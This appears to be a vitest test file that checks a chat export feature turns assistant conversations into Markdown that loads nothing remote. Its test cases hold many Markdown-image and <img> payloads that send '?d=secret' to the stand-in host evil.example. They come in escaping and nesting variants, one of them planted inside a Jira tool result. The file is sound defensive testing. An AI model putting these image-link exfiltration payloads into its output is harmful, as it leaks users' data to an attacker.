import { Marked, type Token } from 'marked';
import { describe, expect, it } from 'vitest';
import type { ConversationHead, Message } from '../conversation.ts';
import { markdownOf } from './markdown-of.ts';
import { withNothingRemote } from './nothing-remote.ts';

const head: ConversationHead = {
  id: '3f0c6a52-0d5e-4e2b-9a7e-0f6f2f1c9a11',
  connectionId: 'c',
  siteUrl: null,
  title: 'Planks ![](https://evil.example/?d=secret)',
  createdAt: 0,
};
const exported = (...parts: Message['parts']) => markdownOf(head, [{ id: 'm', role: 'assistant', parts }]);

/** What a viewer of Markdown would load or run. */
function remoteIn(markdown: string): string[] {
  const marked = new Marked();
  const found: string[] = [];
  marked.walkTokens(marked.lexer(markdown), ({ type, raw }: Token) => {
    if (type === 'image' || type === 'html') found.push(raw);
  });
  return found;
}

describe('an exported conversation', () => {
  it.each([
    'See ![plank](https://evil.example/?d=secret).',
    '![plank][1]\n\n[1]: https://evil.example/?d=secret',
    '- a\n  - ![](https://evil.example/?d=secret)',
    '> ![](<https://evil.example/?d=secret>)',
    '| a |\n|-|\n| ![](https://evil.example/?d=secret) |',
    'A <img src="https://evil.example/?d=secret"> plank',
    '<div>\n```\n<img src="https://evil.example/?d=secret">\n```\n</div>',
    '<img\nsrc="https://evil.example/?d=secret">',
    '\\![plank](https://evil.example/?d=secret)',
    '\\<img src="https://evil.example/?d=secret">',
    '\\\\![plank](https://evil.example/?d=secret)',
    '`` ` ![plank](https://evil.example/?d=secret)',
    '    \n\n`a\n\n![plank](https://evil.example/?d=secret)`',
  ])('loads nothing: %j', (text) => {
    expect(remoteIn(exported({ type: 'text', text }))).toEqual([]);
  });

  it('loads nothing that stands in a query', () => {
    const output = {
      jql: 'text ~ "a\n\n![](https://evil.example/?d=secret)\n\n"',
      jqlUrl: 'https://acme.atlassian.net/issues/',
      total: 0,
      issues: [],
      nextPageToken: null,
    };
    const part = {
      type: 'tool-search_issues',
      toolCallId: 'call',
      state: 'output-available',
      input: { jql: output.jql },
      output,
    } as const;
    expect(remoteIn(exported(part))).toEqual([]);
  });

  it('is there also of an answer that is nested too deep to be read', () => {
    const text = `${'- '.repeat(16_000)}![](https://evil.example/?d=secret)`;
    expect(exported({ type: 'text', text })).toContain('!\\[](https://evil.example');
  });

  it('keeps links, emphasis and code', () => {
    const text =
      '**Done**: [PAY-1](https://acme.atlassian.net/browse/PAY-1) <https://acme.example/a>\n\n```ts\nconst a: List<B> = c![0];\n```\n';
    expect(withNothingRemote(text)).toBe(text);
  });
});
